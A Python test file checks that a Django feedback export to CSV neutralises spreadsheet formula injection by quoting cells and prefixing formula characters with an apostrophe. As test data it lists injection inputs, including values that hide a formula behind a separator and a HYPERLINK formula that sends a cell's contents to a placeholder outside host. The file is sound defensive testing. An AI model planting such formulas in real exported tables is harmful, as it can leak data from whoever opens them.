"""The table for editors: whatever a spreadsheet takes for the end of a cell, it runs nothing."""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from tests.for_each import for_each
from treatment_guide.feedback.models import Feedback
from treatment_guide.management.commands.feedback import inert

DAY = date(2026, 11, 24)
#: What spreadsheets begin a formula with; the wide forms in some languages.
STARTS = "=+-@＝＋－＠"
SEPARATORS = (",", ";", "\t", "|")


def runs(cell):
    """True for a cell that a spreadsheet could take for a formula: it looks past spaces and quotes."""
    return cell.strip().strip('"').strip().startswith(tuple(STARTS))


def cells(table, separator):
    """Every cell, as a program reads the table that expects another separator."""
    quoted = list(csv.reader(io.StringIO(table), delimiter=separator))
    plain = csv.reader(io.StringIO(table), delimiter=separator, quoting=csv.QUOTE_NONE)
    return [cell for row in [*quoted, *plain] for cell in row]


def written(*row):
    """The table with one row of such cells."""
    table = io.StringIO()
    csv.writer(table, quoting=csv.QUOTE_ALL).writerow([inert(cell) for cell in row])
    return table.getvalue()


@for_each("separator", SEPARATORS)
@for_each(
    "line",
    [
        *("=1+1", "+x", "-x", "@x", "＝1+1"),
        *("a;=1+1", "a,=1+1", "a\t=1+1", "a|=1+1", "a; =1+1", 'a;"=1+1"', 'a;""=1+1', 'a";=1+1'),
        *(" =1+1", '"=1+1"', '" =1+1', ";;=1", ";\t=1", "a;\u00a0=1"),
        '=HYPERLINK("https://elsewhere.example?"&A1)',
    ],
)
def test_no_line_becomes_a_formula(separator, line):
    """In a table with commas, read with commas, semicolons, tabs or bars."""
    assert [
        cell for cell in cells(written("/options/prp/", "no", line), separator) if runs(cell)
    ] == []


@given(st.text(st.sampled_from([*STARTS, *SEPARATORS, '"', "'", " ", "\u00a0", "a", "1"])))
def test_nothing_that_was_typed_becomes_a_formula(line):
    """For any line, and any of the separators."""
    for separator in SEPARATORS:
        assert [cell for cell in cells(written(line, "no", line), separator) if runs(cell)] == []


@given(st.text())
def test_nothing_is_lost_from_a_line(line):
    """Only apostrophes are put in."""
    assert inert(line).replace("'", "") == line.replace("'", "")


@pytest.mark.parametrize(
    "line", ["I had 2 shots, 47 of 100 is a lot", "too long - and hard", "a-b"]
)
def test_plain_words_are_left_alone(line):
    """What an editor reads stays as it was typed."""
    assert inert(line) == line


@pytest.mark.django_db
def test_every_cell_of_the_table_is_quoted_and_inert(tmp_path):
    """The page and the release too: the table may hold rows that nobody's form brought."""
    Feedback.objects.create(page="=page;=1", helped=False, line="-x", day=DAY, release="@r")
    call_command("feedback", csv=tmp_path / "out.csv", skip_checks=True, stdout=io.StringIO())

    table = (tmp_path / "out.csv").read_text(encoding="utf-8")

    assert table.splitlines()[1] == '"\'=page;\'=1","no","\'-x","2026-11-24","\'@r"'
    assert [
        cell for separator in SEPARATORS for cell in cells(table, separator) if runs(cell)
    ] == []
